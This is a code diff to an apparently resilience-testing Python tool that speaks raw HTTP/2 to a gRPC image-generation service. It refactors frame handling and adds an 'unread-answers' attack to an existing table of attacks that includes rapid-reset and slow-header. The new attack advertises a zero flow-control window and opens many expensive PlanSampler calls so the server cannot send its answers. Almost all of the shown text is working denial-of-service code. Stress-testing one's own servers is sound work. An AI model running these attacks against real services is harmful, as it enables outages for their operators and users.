@@ -52,6 +52,7 @@ CANCEL = struct.pack(">I", 8)
 FRAME_BYTES = 16384  # the longest payload that every server accepts
 HEALTH = "/grpc.health.v1.Health/Check"
 GENERATE = "/denoised.v1.ImageGeneration/Generate"
+PLAN_SAMPLER = "/denoised.v1.ImageGeneration/PlanSampler"
 SERVING = b"\x00\x00\x00\x00\x02\x08\x01"  # HealthCheckResponse, as gRPC frames it
 CALLS_PER_PHASE = 20
 PAUSE_SECONDS = 0.02
@@ -92,13 +93,39 @@ def request_block(path):
 START = PREFACE + frame(SETTINGS, 0, 0)
 
 
-class Connection:
+class FrameSocket:
+    """Sends bytes and reads frames until the deadline. Raises OSError."""
+
+    def __init__(self, connected, deadline):
+        self.socket, self.deadline = connected, deadline
+        self.received = b""
+
+    def send(self, data):
+        self.socket.settimeout(max(0.001, self.deadline - time.monotonic()))
+        self.socket.sendall(data)
+
+    def read_bytes(self, count):
+        while len(self.received) < count:
+            self.socket.settimeout(max(0.001, self.deadline - time.monotonic()))
+            data = self.socket.recv(65536)
+            if not data:
+                raise ConnectionError("closed by the server")
+            self.received += data
+        taken, self.received = self.received[:count], self.received[count:]
+        return taken
+
+    def next_frame(self):
+        """Its type, flags, stream and payload."""
+        header = self.read_bytes(9)
+        payload = self.read_bytes(int.from_bytes(header[:3], "big"))
+        return header[3], header[4], int.from_bytes(header[5:], "big"), payload
+
+
+class Connection(FrameSocket):
     """Makes one gRPC call after another, as a client should. Raises OSError."""
 
     def __init__(self, address, patience=PATIENCE_SECONDS, source=None):
-        self.deadline = time.monotonic() + patience
-        self.socket = connect(address, source, patience)
-        self.received = b""
+        super().__init__(connect(address, source, patience), time.monotonic() + patience)
         self.stream = -1
         self.window = self.initial_window = 65535
         self.socket.sendall(START + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
@@ -126,24 +153,8 @@ class Connection:
             self.read_frame()
         return self.answer
 
-    def send(self, data):
-        self.socket.settimeout(max(0.001, self.deadline - time.monotonic()))
-        self.socket.sendall(data)
-
-    def read_bytes(self, count):
-        while len(self.received) < count:
-            self.socket.settimeout(max(0.001, self.deadline - time.monotonic()))
-            data = self.socket.recv(65536)
-            if not data:
-                raise ConnectionError("closed by the server")
-            self.received += data
-        taken, self.received = self.received[:count], self.received[count:]
-        return taken
-
     def read_frame(self):
-        header = self.read_bytes(9)
-        kind, flags, stream = header[3], header[4], int.from_bytes(header[5:], "big")
-        payload = self.read_bytes(int.from_bytes(header[:3], "big"))
+        kind, flags, stream, payload = self.next_frame()
         if kind == GOAWAY:
             raise ConnectionError("the server has sent GOAWAY")
         if kind in (SETTINGS, PING) and not flags & ACK:
@@ -197,7 +208,7 @@ class Attacker:
 
     def count(self, name, amount=1):
         with self.lock:
-            self.counts[name] += amount
+            self.counts[name] = self.counts.get(name, 0) + amount
 
     def left(self):
         return max(0.001, self.deadline - time.monotonic())
@@ -456,6 +467,43 @@ def many_repeated(attacker):
     attacker.on_each_connection(act)
 
 
+def unread_answers(attacker):
+    """Calls PlanSampler --count times on each connection with an HTTP/2 window of 0, which leaves no
+    room for an answer, and waits until the server has cancelled all calls or --hold has passed."""
+    options = attacker.options
+    model = options.model.encode()
+    sampler = b"\x10" + varint(1000)  # steps
+    request = (b"\x0a" + varint(len(model)) + model
+               + b"\x12" + varint(len(sampler)) + sampler)
+    message = b"\x00" + struct.pack(">I", len(request)) + request
+    no_window = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
+
+    def act(number):
+        connected = attacker.connect(number)
+        if connected is None:
+            return
+        until = min(attacker.deadline, time.monotonic() + options.hold)
+        calls = {2 * i + 1 for i in range(options.count)}
+        with connected:
+            connection = FrameSocket(connected, until)
+            try:
+                connection.send(no_window + frame(SETTINGS, ACK, 0) + b"".join(
+                    open_stream(i, PLAN_SAMPLER) + frame(DATA, END_STREAM, 2 * i + 1, message)
+                    for i in range(options.count)))
+                while calls:
+                    kind, flags, stream, payload = connection.next_frame()
+                    if kind == PING and not flags & ACK:
+                        connection.send(frame(PING, ACK, 0, payload))
+                    if stream in calls and kind == RST_STREAM:
+                        calls.remove(stream)
+                        attacker.count("calls_cancelled")
+            except TimeoutError:
+                attacker.count("survived")
+            except OSError:
+                attacker.count("closed_by_server")
+    attacker.on_each_connection(act)
+
+
 # Name: what to do, and the defaults of --connections, --count, --mib and --hold.
 ATTACKS = {
     "rapid-reset": (rapid_reset, 8, 20000, 0, 0),
@@ -481,6 +529,7 @@ ATTACKS = {
     "http-idle": (http_idle, 1000, 0, 0, 10),
     "http-slow-header": (http_slow_header, 1000, 0, 0, 10),
     "many-repeated": (many_repeated, 1, 4_000_000, 0, 0),
+    "unread-answers": (unread_answers, 4, 120, 0, 30),
 }
 
 
